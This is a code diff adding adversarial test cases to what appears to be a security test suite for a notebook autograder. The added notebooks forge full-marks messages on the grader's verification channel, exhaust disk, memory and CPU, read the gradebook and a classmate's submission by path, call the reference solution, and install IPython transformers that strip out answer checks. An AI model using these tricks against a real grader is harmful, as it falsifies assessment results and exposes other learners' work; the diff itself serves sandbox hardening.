@@ -276,6 +276,51 @@ def huge_display_data(ctx: BuildContext) -> None:
     write_notebook(ctx, notebook)
 
 
+def huge_error_message(ctx: BuildContext) -> None:
+    notebook = answered(ctx)
+    append(notebook, "a1", 'raise ValueError("e" * 30_000_000)  # a 30 MB error message')
+    write_notebook(ctx, notebook)
+
+
+def many_large_errors(ctx: BuildContext) -> None:
+    notebook = answered(ctx)
+    for answer_cell in ("a1", "a2", "a3", "a4"):
+        append(notebook, answer_cell, 'raise ValueError("e" * 3_000_000)  # 3 MB each')
+    write_notebook(ctx, notebook)
+
+
+_ON_THE_CHANNEL = """
+import os, socket, struct, time
+descriptor = os.environ.get("AUTOGRADER_VERIFY_FD")  # only under the isolated runner
+if descriptor:
+    channel = socket.socket(fileno=int(descriptor))
+{write}
+    channel.detach()
+    time.sleep(120)  # bounded
+"""
+
+
+def channel_unknown_message(ctx: BuildContext) -> None:
+    body = b'{"type": "full-marks-now"}'
+    write = f"    channel.sendall(struct.pack('>I', {len(body)}) + {body!r})"
+    _last_part(ctx, _ON_THE_CHANNEL.format(write=write))
+
+
+def channel_oversized_frame(ctx: BuildContext) -> None:
+    write = "    channel.sendall(struct.pack('>I', 2**31) + b'{')  # claims 2 GiB"
+    _last_part(ctx, _ON_THE_CHANNEL.format(write=write))
+
+
+def channel_trickle(ctx: BuildContext) -> None:
+    write = (
+        "    channel.sendall(struct.pack('>I', 8_000_000))  # a frame within the limit...\n"
+        "    for _ in range(600):  # ...whose body comes a byte a second (bounded: 10 minutes)\n"
+        "        channel.send(b'{')\n"
+        "        time.sleep(1)"
+    )
+    _last_part(ctx, _ON_THE_CHANNEL.format(write=write))
+
+
 def many_slow_cells(ctx: BuildContext) -> None:
     notebook = answered(ctx)
     for _ in range(12):  # 12 x 110 s: each under the 120 s cell timeout, 22 minutes in all
@@ -772,5 +817,168 @@ def socket_exfiltrate(ctx: BuildContext) -> None:
         ).read_bytes()[:200]
         with socket.create_connection(("127.0.0.1", {ctx.port}), timeout=5) as connection:
             connection.sendall(payload)
+        """,
+    )
+
+
+# --- the machine's shared resources: disk, memory across processes, CPU (issue 23, item 2) ---
+
+
+def _answered_then(ctx: BuildContext, code: str) -> None:
+    """Every answer right, then ``code`` in a cell of its own after the last one."""
+    notebook = answered(ctx)
+    notebook.cells.append(new_code_cell(code))
+    write_notebook(ctx, notebook)
+
+
+def fill_disk(ctx: BuildContext) -> None:
+    _answered_then(
+        ctx,
+        """
+import os
+
+written = 0
+try:
+    for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
+        for part in range(64):  # bounded: at most 4 x 64 x 16 MiB
+            with open(os.path.join(folder, f"fill-{part}.bin"), "wb") as out:
+                out.write(b"x" * (16 * 1024**2))
+            written += 16
+except OSError as error:
+    print(f"stopped after {written} MiB: {error}")
+""",
+    )
+
+
+def memory_in_many_processes(ctx: BuildContext) -> None:
+    _answered_then(
+        ctx,
+        """
+import os, time
+
+children = []
+for _ in range(6):  # bounded: 6 processes of 600 MiB each, gone after 6 s
+    pid = os.fork()
+    if pid == 0:
+        try:
+            size = 600 * 1024**2
+            block = bytearray(size)
+            block[::4096] = b"x" * (size // 4096)  # touch every page: really held
+            time.sleep(6)
+        finally:
+            os._exit(0)
+    children.append(pid)
+for pid in children:
+    os.waitpid(pid, 0)
+""",
+    )
+
+
+def cpu_hog_new_sessions(ctx: BuildContext) -> None:
+    # The harness's folder is named in each busy process's command line, so one that outlived
+    # its grading would be listed among the processes left behind.
+    _answered_then(
+        ctx,
+        f"""
+import subprocess, sys, time
+
+spin = (
+    "import time; end = time.monotonic() + 30  # {ctx.scratch}\\n"
+    "while time.monotonic() < end: pass"
+)
+for _ in range(6):  # bounded: 6 busy processes of 30 s, each in a session of its own
+    subprocess.Popen([sys.executable, "-c", spin], start_new_session=True)
+time.sleep(8)
+""",
+    )
+
+
+# --- what the sandbox shows (issue 23, item 5) -------------------------------------------------
+
+
+def read_course_by_absolute_path(ctx: BuildContext) -> None:
+    from course.catalog import REPO_ROOT
+
+    friend = ctx.peers["honest"]
+    _cheat_with_no_answers(
+        ctx,
+        f"""
+        import os, pathlib
+
+        course = pathlib.Path({str(ctx.course_root)!r})
+        for name in ("adversarial-roster.csv", "nbgrader_config.py", "gradebook.db"):
+            try:
+                print(name, (course / name).read_bytes()[:2000])
+            except OSError as error:
+                print(name, "not readable:", type(error).__name__)
+        friend = course / "submitted" / {friend!r} / "{ASSIGNMENT}" / "{NOTEBOOK}"
+        try:
+            print(friend.read_text()[:5000])
+        except OSError as error:
+            print("classmate not readable:", type(error).__name__)
+        source = pathlib.Path({str(REPO_ROOT / "exercises" / ASSIGNMENT / NOTEBOOK)!r})
+        try:
+            print(source.read_text()[:100000])
+        except OSError as error:
+            print("source not readable:", type(error).__name__)
+        print(sorted(os.listdir("/")))
+        """,
+    )
+
+
+def call_reference_code(ctx: BuildContext) -> None:
+    notebook = release_copy(ctx)
+    set_answer(
+        notebook,
+        "a1",
+        textwrap.dedent(
+            """
+        import importlib
+
+        reference = importlib.import_module("autograder.checks.exercises.score_a_vendor")
+        mine = reference.exercise_case(case.learner_id)
+        weighted_totals = reference.reference_totals(mine)
+        disqualified = reference.reference_disqualified(mine)
+        ranking = reference.reference_ranking(mine)
+        recommended = ranking[0]
+        """
+        ),
+    )
+    write_notebook(ctx, notebook)
+
+
+# --- transformers: nbgrader's own autograde gave them full marks (issue 23, item 6) -----------
+
+
+def input_transformer(ctx: BuildContext) -> None:
+    _cheat_with_no_answers(
+        ctx,
+        """
+        def _nothing_to_check(lines):
+            text = "".join(lines)
+            return ["pass\\n"] if "verify(" in text or "check_answer(" in text else lines
+
+
+        get_ipython().input_transformers_post.append(_nothing_to_check)
+        """,
+    )
+
+
+def ast_transformer(ctx: BuildContext) -> None:
+    _cheat_with_no_answers(
+        ctx,
+        """
+        import ast
+
+
+        class _NoChecks(ast.NodeTransformer):
+            def visit_Call(self, node):
+                name = getattr(node.func, "id", getattr(node.func, "attr", ""))
+                if name in ("verify", "check_answer"):
+                    return ast.Constant(None)
+                return self.generic_visit(node)
+
+
+        get_ipython().ast_transformers.append(_NoChecks())
         """,
     )
